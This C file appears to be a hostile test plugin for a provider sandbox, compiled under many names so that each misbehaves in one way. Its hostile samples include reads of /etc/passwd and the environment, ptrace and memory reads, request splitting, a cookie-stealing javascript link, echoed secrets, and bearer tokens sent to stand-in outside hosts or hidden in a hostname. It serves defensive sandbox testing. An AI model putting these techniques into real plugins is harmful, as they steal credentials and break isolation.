/*
 * A provider that behaves until it has to publish, and then does the one thing that it is named after: before anything
 * was sent where the text begins with "before", after the post was answered where it begins with "after".
 *
 * The one thing to know: tests/plays/hostile.mjs makes many providers of this one file, by writing another name over
 * `own_name`.  What it does may end the process or not; if the sandbox lets it, it goes on and publishes, and the test sees it.
 */
#include "ease.h"

#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#define API "https://far.misdeed.test"
#define OPERATION_AT 24		/* of the number in the host's own struct, which it never gave us */

static const char own_name[32] = "misdeed-name-comes-here-xxxxxxx";
static volatile int zero;

/* The compiler must not know what is written there. */
static const char *me(void)
{
	const char *name = own_name;

	__asm__("" : "+r"(name));
	return name;
}

static const char descriptor[] = "{"
	"\"name\":\"Misdeed\",\"operations\":[\"exchange\",\"identify\",\"publish\"],\"hosts\":[\"far.misdeed.test\"],"
	"\"connect\":{\"method\":\"form\",\"fields\":[{\"name\":\"secret\",\"secret\":true}]},"
	"\"text\":{\"max\":1000},\"capabilities\":{\"text\":true},"
	"\"dedupe\":{\"default\":{\"class\":\"search\",\"settle_s\":600}},\"state_versions\":[1,1]}";

static mps_next exchange_start(mps_op *op)
{
	mps_token(op, "access", mps_handle(op, "field.secret"), 0);
	return mps_done(op);
}

static mps_next identify_start(mps_op *op)
{
	mps_result(op, "account.id", me());
	mps_result(op, "account.username", "ada");
	return mps_done(op);
}

/* --- bytes on the socket that no host would write --------------------------------------------------------------- */

static unsigned char frame[400 * 1024];
static uint32_t used;

static void put(uint64_t value, int n)
{
	for (; n > 0; n--, value >>= 8)
		frame[used++] = (unsigned char)value;
}

static void record(int kind, const char *key, const char *value, uint32_t n)
{
	put((uint64_t)kind, 1), put(strlen(key), 2), put(n, 4);
	memcpy(frame + used, key, strlen(key));
	used += (uint32_t)strlen(key);
	memcpy(frame + used, value, n);
	used += n;
}

static void text(int kind, const char *key, const char *value) { record(kind, key, value, (uint32_t)strlen(value)); }

static uint64_t number(mps_op *op)
{
	uint64_t n;

	memcpy(&n, (const char *)op + OPERATION_AT, sizeof n);
	return n;
}

static void begin(uint64_t operation, const char *verb)
{
	used = 0;
	put(0, 4), put(4, 4), put(operation, 8);
	text(40, "", verb);
}

static void end(uint32_t length)
{
	uint32_t all = used;

	used = 0;
	put(length, 4);
	used = all;
}

static void write_out(void)
{
	for (uint32_t at = 0; at < used;) {
		ssize_t n = write(3, frame + at, used - at);

		if (n <= 0)
			abort();
		at += (uint32_t)n;
	}
}

static void finish(void)
{
	end(used - 16);
	write_out();
	for (;;)
		(void)getpid();		/* as if it had answered, until the core ends it */
}

/* --- processes and system calls ---------------------------------------------------------------------------------- */

static void loop(mps_op *op) { (void)op; while (!zero) ; }
static void crash(mps_op *op) { (void)op; *(volatile char *)(uintptr_t)zero = 1; }
static void stop(mps_op *op) { (void)op; abort(); }
static void leave(mps_op *op) { (void)op; _exit(0); }
static void leave_as_sandbox(mps_op *op) { (void)op; _exit(119); }
static void grow(mps_op *op) { (void)op; for (;;) memset(malloc(1 << 20), 1, 1 << 20); }
static int down(int n) { volatile char room[65536]; memset((char *)room, n, sizeof room); return zero ? 0 : down(n + 1) + room[1]; }
static void recurse(mps_op *op) { (void)op; zero = down(1); }
static void forks(mps_op *op) { (void)op; (void)fork(); }
static void thread(mps_op *op) { (void)op; (void)syscall(SYS_clone, 0x50f00, 0, 0, 0, 0); }
static void run(mps_op *op) { (void)op; (void)execl("/bin/true", "true", (char *)NULL); }
static void sockets(mps_op *op) { (void)op; (void)socket(AF_INET, SOCK_STREAM, 0); }
static void connects(mps_op *op) { (void)op; (void)syscall(SYS_connect, 3, "\x02\0\0\x50\x7f\0\0\x01", 16); }
static void opens(mps_op *op) { (void)op; (void)open("/etc/passwd", O_RDONLY); }
static void writes_file(mps_op *op) { (void)op; (void)open("misdeed.out", O_WRONLY | O_CREAT, 0600); }
static void environment(mps_op *op) { (void)op; (void)open("/proc/self/environ", O_RDONLY); }
static void traces(mps_op *op) { (void)op; (void)syscall(SYS_ptrace, 16, 1, 0, 0); }
static void reads_memory(mps_op *op) { struct iovec v = { op, 8 }; (void)syscall(SYS_process_vm_readv, 1, &v, 1, &v, 1, 0); }
static void kills(mps_op *op) { (void)op; (void)kill(getppid(), 0); }
static void signals(mps_op *op) { (void)op; (void)syscall(SYS_tgkill, 1, 1, 0); }
static void stands_still(mps_op *op) { (void)op; (void)raise(SIGSTOP); }
static void maps_code(mps_op *op)
{
	(void)op;
	(void)mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
}
static void unmaps(mps_op *op) { (void)op; (void)munmap((void *)((uintptr_t)unmaps & ~(uintptr_t)4095), 4096); }
static void deaf(mps_op *op)
{
	sigset_t all;

	(void)op;
	(void)sigfillset(&all);
	(void)sigprocmask(SIG_SETMASK, &all, NULL);
	(void)socket(AF_INET, SOCK_STREAM, 0);
}

/* --- the socket to the core ----------------------------------------------------------------------------------------- */

static void reads_socket(mps_op *op) { char c; (void)op; (void)!read(3, &c, 1); }
static void closes(mps_op *op) { (void)op; (void)close(3); }
static void shuts(mps_op *op) { (void)op; (void)syscall(SYS_shutdown, 3, 2); }
static void garbage(mps_op *op) { (void)op; used = 0; put(0x0807060504030201u, 8), put(9, 8); write_out(); }
static void gigabyte(mps_op *op) { begin(number(op), "done"); end(1u << 30); write_out(); }
static void another(mps_op *op) { begin(number(op) + 1, "done"); finish(); }
static void two_answers(mps_op *op) { begin(number(op), "done"); end(used - 16); write_out(); }
static void unknown_record(mps_op *op) { begin(number(op), "done"); text(99, "", ""); finish(); }
static void long_id(mps_op *op) { begin(number(op), "done"); record(44, "remote_id", (char *)frame + 200000, 100000); finish(); }
static void huge_id(mps_op *op) { begin(number(op), "done"); used += 300000; finish(); }
static void bad_utf8(mps_op *op) { begin(number(op), "done"); text(44, "remote_id", "\xff\xfe\x80"); finish(); }
static void waits_for_ever(mps_op *op) { begin(number(op), "wait"); text(21, "", "start"), text(41, "", "9999999999"); finish(); }
static void splits_request(mps_op *op)
{
	begin(number(op), "send");
	text(21, "", "sent"), text(60, "POST", "once"), text(61, "", API "/v1/posts HTTP/1.1\r\nX: y");
	finish();
}

/* One byte each time a while has passed; there is no clock here. */
static void drips(mps_op *op)
{
	begin(number(op), "done");
	end(used - 16);
	for (uint32_t i = 0; i < used && write(3, frame + i, 1) == 1; i++)
		for (volatile int64_t n = 0; n < 600000000; n++)
			;
}

/* Straight from memory: the token behind the name of the host, where it would be looked up in the open. */
static void secret_in_host(mps_op *op)
{
	begin(number(op), "send");
	text(21, "", "sent"), text(60, "GET", "safe"), text(61, "", "https://far.misdeed.test."), text(62, "percent", "token.access");
	finish();
}

/* --- lies ------------------------------------------------------------------------------------------------------------- */

static void nothing(mps_op *op) { (void)op; }
static const struct misdeed { const char *name; void (*act)(mps_op *op); } misdeeds[] = {
	{ "loop", loop }, { "crash", crash }, { "abort", stop }, { "exit", leave }, { "exit-119", leave_as_sandbox }, { "grow", grow },
	{ "recurse", recurse }, { "fork", forks }, { "thread", thread }, { "exec", run }, { "socket", sockets }, { "connect", connects },
	{ "open", opens }, { "write-file", writes_file }, { "environ", environment }, { "ptrace", traces }, { "read-memory", reads_memory },
	{ "kill-parent", kills }, { "signal", signals }, { "stop-itself", stands_still }, { "map-code", maps_code }, { "unmap", unmaps },
	{ "block-signals", deaf }, { "read-socket", reads_socket }, { "close-socket", closes }, { "shut-socket", shuts },
	{ "garbage", garbage }, { "gigabyte", gigabyte }, { "another-operation", another }, { "two-answers", two_answers },
	{ "unknown-record", unknown_record }, { "long-id", long_id }, { "huge-answer", huge_id }, { "bad-utf8", bad_utf8 },
	{ "wait-for-ever", waits_for_ever }, { "split-request", splits_request }, { "drip", drips }, { "secret-in-host", secret_in_host },
	{ NULL, nothing }
};

static mps_req *post(mps_op *op, const char *url)
{
	mps_req *r = mps_post(op, url);

	mps_bearer(r);
	mps_json_object(r, "");
	mps_json_text(r, "text", mps_input(op, "text"));
	mps_json_close(r);
	return r;
}

static int is(const char *name) { return mps_is(me(), name); }

static mps_next get(mps_op *op, const char *url, const char *next)
{
	mps_req *r = mps_get_url(op, url);

	mps_bearer(r);
	return mps_send(op, r, MPS_SAFE, next);
}

static mps_next with_id(mps_op *op, const char *id, const char *url)
{
	mps_result(op, "remote_id", id);
	mps_result(op, "remote_url", url);
	return mps_done(op);
}

/* What is wrong though every call is one of the interface.  0: it did nothing. */
static mps_next lie(mps_op *op)
{
	if (is("never-sent"))
		return with_id(op, "invented", "https://far.misdeed.test/1");
	if (is("failed-and-live")) {
		mps_result(op, "remote_id", "invented");
		return mps_fail(op, MPS_REJECTED, "policy", "", "");
	}
	if (is("id-with-request")) {
		mps_result(op, "remote_id", "invented");
		return mps_send(op, post(op, API "/v1/posts"), MPS_ONCE, "sent");
	}
	if (is("other-host"))
		return get(op, "https://elsewhere.misdeed.example/", "sent");
	if (is("own-machine"))
		return get(op, "https://127.0.0.1/", "sent");
	if (is("other-port"))
		return get(op, "https://far.misdeed.test:22/", "sent");
	if (is("other-secret")) {
		mps_req *r = mps_get_url(op, API "/v1/posts");

		mps_bearer_of(r, mps_handle(op, "targets.7.token"));
		return mps_send(op, r, MPS_SAFE, "sent");
	}
	if (is("echo-secret"))
		return with_id(op, mps_handle(op, "token.access"), "");
	if (is("script-link"))
		return with_id(op, "1", "javascript:alert(document.cookie)");
	if (is("long-result"))
		return with_id(op, (memset(frame, 'a', 1 << 18), frame[1 << 18] = '\0', (char *)frame), "");
	if (is("wait-negative"))
		return mps_wait(op, -5, "start");
	if (is("two-verbs"))
		return (void)mps_wait(op, 5, "start"), mps_done(op);
	if (is("no-verb"))
		return MPS_NEXT_DONE;
	if (is("absent-unasked"))
		return mps_absent(op);
	if (is("deep-json")) {
		memset(frame, '[', 10000);
		frame[10000] = '\0';
		mps_result(op, "remote_id", mps_jwt(op, mps_handle(op, "token.access"), "HS256", (char *)frame, 60));
		return mps_done(op);
	}
	if (is("steps"))
		return get(op, API "/v1/again", "start");
	return 0;
}

static mps_next commit(mps_op *op)
{
	for (const struct misdeed *m = misdeeds; m->name; m++)
		if (is(m->name))
			m->act(op);
	return lie(op);
}

static int asked(mps_op *op, const char *when) { return strncmp(mps_input(op, "text"), when, strlen(when)) == 0; }

static mps_next publish_start(mps_op *op)
{
	mps_next done = asked(op, "before") ? commit(op) : 0;

	return done ? done : mps_send(op, post(op, API "/v1/posts"), MPS_ONCE, "sent");
}

static mps_next publish_sent(mps_op *op)
{
	mps_next done = asked(op, "after") && mps_event(op) == MPS_ANSWER ? commit(op) : 0;

	if (done)
		return done;
	if (mps_event(op) == MPS_LOST)
		return mps_unknown(op);
	return with_id(op, mps_json(op, "id"), "");
}

static const struct mps_phase exchange[] = { { "start", exchange_start }, { NULL, NULL } };
static const struct mps_phase identify[] = { { "start", identify_start }, { NULL, NULL } };
static const struct mps_phase publish[] = { { "start", publish_start }, { "sent", publish_sent }, { NULL, NULL } };
static const struct mps_operation operations[] = {
	{ "exchange", exchange }, { "identify", identify }, { "publish", publish }, { NULL, NULL }
};

MPS_PROVIDER(own_name, "1.0", descriptor, operations)
